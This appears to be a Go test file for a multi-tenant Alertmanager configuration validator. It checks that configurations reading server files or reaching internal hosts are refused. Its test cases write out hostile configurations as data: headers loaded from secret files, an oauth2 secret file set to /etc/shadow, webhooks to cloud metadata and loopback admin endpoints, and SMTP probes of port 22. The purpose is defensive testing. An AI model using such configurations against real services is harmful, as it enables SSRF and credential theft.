package amconfig

import (
	"flag"
	"fmt"
	"net/url"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"sort"
	"strings"
	"testing"

	"github.com/prometheus/alertmanager/config"

	"github.com/kansoku/kansoku/internal/egress"
	"github.com/kansoku/kansoku/internal/limits"
)

var update = flag.Bool("update", false, "rewrite testdata/reviewed-fields.txt from the Alertmanager types in go.mod")

// reachable returns every struct type a configuration can hold, stopping
// at leaves, and the exported fields of each.
func reachable() map[reflect.Type][]string {
	out := map[reflect.Type][]string{}
	var visit func(t reflect.Type)
	visit = func(t reflect.Type) {
		for t.Kind() == reflect.Pointer || t.Kind() == reflect.Slice || t.Kind() == reflect.Array || t.Kind() == reflect.Map {
			if t.Kind() == reflect.Map {
				visit(t.Key())
			}
			t = t.Elem()
		}
		if t.Kind() != reflect.Struct || leaves[t] {
			return
		}
		if _, ok := out[t]; ok {
			return
		}
		out[t] = []string{}
		for i := 0; i < t.NumField(); i++ {
			if f := t.Field(i); f.IsExported() {
				out[t] = append(out[t], f.Name)
				visit(f.Type)
			}
		}
	}
	visit(reflect.TypeOf(config.Config{}))
	return out
}

// An upgrade of Alertmanager or prometheus/common that adds a type or a
// field fails here until someone has decided what the new field does and
// recorded it in `reviewed` (then run this test with -update).
func TestEveryReachableTypeIsReviewed(t *testing.T) {
	types := reachable()
	var lines []string
	for typ, fields := range types {
		if _, ok := reviewed[typ]; !ok {
			t.Errorf("%s is reachable from config.Config but not reviewed in safety.go", typ)
		}
		lines = append(lines, fmt.Sprintf("%s.%s: %s", typ.PkgPath(), typ.Name(), strings.Join(fields, " ")))
	}
	for typ, rv := range reviewed {
		fields, ok := types[typ]
		if !ok {
			t.Errorf("%s is reviewed but no longer reachable: drop it", typ)
			continue
		}
		for _, list := range [][]string{rv.files, rv.server, rv.dials} {
			for _, f := range list {
				if !slices.Contains(fields, f) {
					t.Errorf("%s has no field %s", typ, f)
				}
			}
		}
	}
	sort.Strings(lines)
	got := strings.Join(lines, "\n") + "\n"
	golden := filepath.Join("testdata", "reviewed-fields.txt")
	if *update {
		if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatal(err)
	}
	if got != string(want) {
		t.Errorf("the fields of the configuration types changed since %s was reviewed; review each new field in safety.go, then run go test ./internal/amconfig -run TestEveryReachableTypeIsReviewed -update\n%s", golden, lineDiff(string(want), got))
	}
}

func lineDiff(a, b string) string {
	al, bl := strings.Split(a, "\n"), strings.Split(b, "\n")
	var out []string
	for _, l := range al {
		if !slices.Contains(bl, l) {
			out = append(out, "- "+l)
		}
	}
	for _, l := range bl {
		if !slices.Contains(al, l) {
			out = append(out, "+ "+l)
		}
	}
	return strings.Join(out, "\n")
}

// populate fills v so that every pointer, slice and map holds one
// element, every reviewed type appearing somewhere in the tree, except
// under fields that are refused when set at all (and a type inside itself,
// as routes are).
func populate(v reflect.Value) { populateOnce(v, map[reflect.Type]bool{}) }

func populateOnce(v reflect.Value, onPath map[reflect.Type]bool) {
	populate := func(v reflect.Value) { populateOnce(v, onPath) }
	switch v.Kind() {
	case reflect.Pointer:
		if v.Type().Elem().Kind() != reflect.Struct || leaves[v.Type().Elem()] {
			return
		}
		v.Set(reflect.New(v.Type().Elem()))
		populate(v.Elem())
	case reflect.Slice:
		v.Set(reflect.MakeSlice(v.Type(), 1, 1))
		populate(v.Index(0))
	case reflect.Map:
		if v.Type().Key().Kind() != reflect.String {
			return
		}
		m := reflect.MakeMap(v.Type())
		e := reflect.New(v.Type().Elem()).Elem()
		populate(e)
		m.SetMapIndex(reflect.ValueOf("k").Convert(v.Type().Key()), e)
		v.Set(m)
	case reflect.Struct:
		t := v.Type()
		if leaves[t] || onPath[t] {
			return
		}
		onPath[t] = true
		defer delete(onPath, t)
		rv := reviewed[t]
		for i := 0; i < t.NumField(); i++ {
			f := t.Field(i)
			if f.IsExported() && !slices.Contains(rv.server, f.Name) && !slices.Contains(rv.files, f.Name) {
				populate(v.Field(i))
			}
		}
	}
}

// setNonZero gives v some non-zero value.
func setNonZero(v reflect.Value) {
	switch v.Kind() {
	case reflect.String:
		v.SetString("/etc/kansoku/secret.key")
	case reflect.Bool:
		v.SetBool(true)
	case reflect.Int, reflect.Int64, reflect.Int32:
		v.SetInt(1)
	case reflect.Slice:
		v.Set(reflect.MakeSlice(v.Type(), 1, 1))
		setNonZero(v.Index(0))
	case reflect.Map:
		m := reflect.MakeMap(v.Type())
		e := reflect.New(v.Type().Elem()).Elem()
		setNonZero(e)
		m.SetMapIndex(reflect.ValueOf("X-Leak").Convert(v.Type().Key()), e)
		v.Set(m)
	case reflect.Pointer:
		v.Set(reflect.New(v.Type().Elem()))
		setNonZero(v.Elem())
	case reflect.Struct:
		if v.Type() == reflect.TypeFor[url.URL]() {
			v.Set(reflect.ValueOf(url.URL{Scheme: "http", Host: "proxy.example"}))
			return
		}
		for i := 0; i < v.NumField(); i++ {
			if v.Type().Field(i).IsExported() {
				setNonZero(v.Field(i))
				return
			}
		}
	}
}

// mutate applies fn to the first value of type t in the tree under v and
// reports whether there was one (map values are copied out and back).
func mutate(v reflect.Value, t reflect.Type, fn func(reflect.Value)) bool {
	switch v.Kind() {
	case reflect.Pointer:
		return !v.IsNil() && mutate(v.Elem(), t, fn)
	case reflect.Slice:
		for i := 0; i < v.Len(); i++ {
			if mutate(v.Index(i), t, fn) {
				return true
			}
		}
	case reflect.Map:
		iter := v.MapRange()
		for iter.Next() {
			cp := reflect.New(v.Type().Elem()).Elem()
			cp.Set(iter.Value())
			if mutate(cp, t, fn) {
				v.SetMapIndex(iter.Key(), cp)
				return true
			}
		}
	case reflect.Struct:
		if v.Type() == t {
			fn(v)
			return true
		}
		if leaves[v.Type()] {
			return false
		}
		for i := 0; i < v.NumField(); i++ {
			if v.Type().Field(i).IsExported() && mutate(v.Field(i), t, fn) {
				return true
			}
		}
	}
	return false
}

// Every field the review says reads a file or reaches the server is
// refused, wherever in the configuration its type appears; and the
// configuration without them passes.
func TestEveryFileAndServerFieldIsRefused(t *testing.T) {
	var base config.Config
	populate(reflect.ValueOf(&base).Elem())
	if err := checkTenantSafe(&base, nil); err != nil {
		t.Fatalf("a configuration with every type but no file or server setting was refused: %v", err)
	}
	n := 0
	for typ, rv := range reviewed {
		for _, field := range append(append([]string{}, rv.files...), rv.server...) {
			n++
			t.Run(typ.Name()+"."+field, func(t *testing.T) {
				var cfg config.Config
				populate(reflect.ValueOf(&cfg).Elem())
				if !mutate(reflect.ValueOf(&cfg).Elem(), typ, func(v reflect.Value) { setNonZero(v.FieldByName(field)) }) {
					t.Fatalf("no %s in the populated configuration", typ)
				}
				err := checkTenantSafe(&cfg, nil)
				sf, _ := typ.FieldByName(field)
				name := yamlName(sf)
				if err == nil || (name != "" && !strings.Contains(err.Error(), name)) {
					t.Fatalf("%s.%s set: error %v; want a refusal naming %q", typ, field, err, name)
				}
			})
		}
	}
	if n < 50 {
		t.Fatalf("only %d file and server fields reviewed", n)
	}
}

func parseWith(t *testing.T, fw *egress.Firewall, amConfig string) error {
	t.Helper()
	lim := limits.Defaults()
	def := "alertmanager_config: |\n" + indent(amConfig, "  ")
	_, err := Parse([]byte(def), &lim, fw)
	return err
}

func indent(s, prefix string) string {
	lines := strings.Split(strings.TrimRight(s, "\n"), "\n")
	for i, l := range lines {
		lines[i] = prefix + l
	}
	return strings.Join(lines, "\n") + "\n"
}

// The reproductions of the security findings (F1 and F9), as definitions.
func TestTenantDefinitionsThatReachTheServerAreRefused(t *testing.T) {
	fw, err := egress.New(egress.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	receiver := func(body string) string {
		return "route: {receiver: r, group_wait: 1s}\nreceivers:\n- name: r\n" + indent(body, "  ")
	}
	cases := []struct{ name, cfg, want string }{
		{"F1 header from a file", receiver("webhook_configs:\n- url: http://hooks.example/h\n  http_config:\n    http_headers:\n      X-Leak:\n        files: [/var/lib/kansoku/secret.key]\n"),
			"http_config.http_headers[X-Leak].files: settings that read files"},
		{"oauth2 client secret file", receiver("webhook_configs:\n- url: http://hooks.example/h\n  http_config:\n    oauth2:\n      client_id: x\n      client_secret_file: /etc/shadow\n      token_url: https://auth.example/token\n"),
			"oauth2.client_secret_file"},
		{"oauth2 tls ca file", receiver("webhook_configs:\n- url: http://hooks.example/h\n  http_config:\n    oauth2:\n      client_id: x\n      client_secret: y\n      token_url: https://auth.example/token\n      tls_config: {ca_file: /etc/ssl/private/ca.pem}\n"),
			"oauth2.tls_config.ca_file"},
		{"proxy_url", receiver("webhook_configs:\n- url: http://10.255.255.1/x\n  http_config:\n    proxy_url: http://proxy.example:3128\n"), ""},
		{"proxy_url to an outside host", receiver("webhook_configs:\n- url: http://hooks.example/x\n  http_config:\n    proxy_url: http://proxy.example:3128\n"), "proxy_url: this setting reaches the server's own environment"},
		{"proxy_from_environment", receiver("webhook_configs:\n- url: http://hooks.example/x\n  http_config:\n    proxy_from_environment: true\n"), "proxy_from_environment"},
		{"oauth2 proxy", receiver("webhook_configs:\n- url: http://hooks.example/h\n  http_config:\n    oauth2:\n      client_id: x\n      client_secret: y\n      token_url: https://auth.example/token\n      proxy_url: http://proxy.example:3128\n"),
			"oauth2.proxy_url"},
		{"secret manager ref", receiver("webhook_configs:\n- url: http://hooks.example/h\n  http_config:\n    basic_auth: {username: u, password_ref: prod-db}\n"), "password_ref"},
		{"server's own admin API", receiver("webhook_configs:\n- url: http://127.0.0.1:9393/admin/v1/keys\n"), "loopback"},
		{"instance metadata", receiver("webhook_configs:\n- url: http://169.254.169.254/latest/meta-data/\n"), "link-local"},
		{"IPv6 loopback", receiver("webhook_configs:\n- url: 'http://[::1]:9393/'\n"), "loopback"},
		{"private network", receiver("slack_configs:\n- api_url: http://10.0.0.5/slack\n  channel: '#x'\n"), "private"},
		{"SMTP port scan", receiver("email_configs:\n- to: a@example.com\n  from: b@example.com\n  smarthost: mail.example:22\n"), "SMTP ports"},
		{"SMTP to loopback", receiver("email_configs:\n- to: a@example.com\n  from: b@example.com\n  smarthost: 127.0.0.1:25\n"), "loopback"},
		{"global SMTP", "global:\n  smtp_smarthost: 127.0.0.1:25\n  smtp_from: a@example.com\n" + receiver("email_configs:\n- to: a@example.com\n"), "loopback"},
		{"SNS role with the server's credentials", receiver("sns_configs:\n- topic_arn: arn:aws:sns:us-east-1:123456789012:t\n  sigv4:\n    region: us-east-1\n    role_arn: arn:aws:iam::123456789012:role/Kansoku\n    external_id: kansoku-c74f\n"),
			"never the server's"},
		{"oauth2 token url on loopback", receiver("webhook_configs:\n- url: http://hooks.example/h\n  http_config:\n    oauth2:\n      client_id: x\n      client_secret: y\n      token_url: http://127.0.0.1:8080/token\n"), "loopback"},
		{"F3 templated route label", "route:\n  receiver: r\n  labels: {team: '{{ template \"l6\" . }}'}\nreceivers:\n- name: r\n",
			"route.labels[team]: route label values cannot be templates"},
		{"F3 templated label of a child route", "route:\n  receiver: r\n  routes:\n  - receiver: r\n    labels: {a: plain, b: '{{ .GroupLabels }}'}\nreceivers:\n- name: r\n",
			"route.routes[0].labels[b]"},
		{"event recorder", "event_recorder:\n  file_outputs: [{path: /tmp/x}]\n" + receiver("webhook_configs:\n- url: http://hooks.example/h\n"), "event_recorder"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			err := parseWith(t, fw, tc.cfg)
			if err == nil {
				t.Fatalf("accepted:\n%s", tc.cfg)
			}
			if tc.want != "" && !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("error %q; want it to contain %q", err, tc.want)
			}
		})
	}
	ok := []struct{ name, cfg string }{
		{"outside webhook with headers", receiver("webhook_configs:\n- url: https://hooks.example/h\n  http_config:\n    http_headers:\n      X-Team:\n        values: [sre]\n      X-Key:\n        secrets: [s3cr3t]\n")},
		{"SMTP on 587", receiver("email_configs:\n- to: a@example.com\n  from: b@example.com\n  smarthost: smtp.example.com:587\n")},
		{"SNS role with the receiver's own key", receiver("sns_configs:\n- topic_arn: arn:aws:sns:us-east-1:123456789012:t\n  sigv4:\n    region: us-east-1\n    access_key: AKIAEXAMPLE\n    secret_key: s\n    role_arn: arn:aws:iam::123456789012:role/Notify\n")},
		{"plain route labels", "route:\n  receiver: r\n  labels: {team: sre, tier: '1'}\nreceivers:\n- name: r\n"},
		{"templated webhook URL", receiver("webhook_configs:\n- url: 'https://hooks.example/{{ .GroupLabels.team }}'\n")},
	}
	for _, tc := range ok {
		t.Run(tc.name, func(t *testing.T) {
			if err := parseWith(t, fw, tc.cfg); err != nil {
				t.Fatalf("refused: %v", err)
			}
		})
	}
}
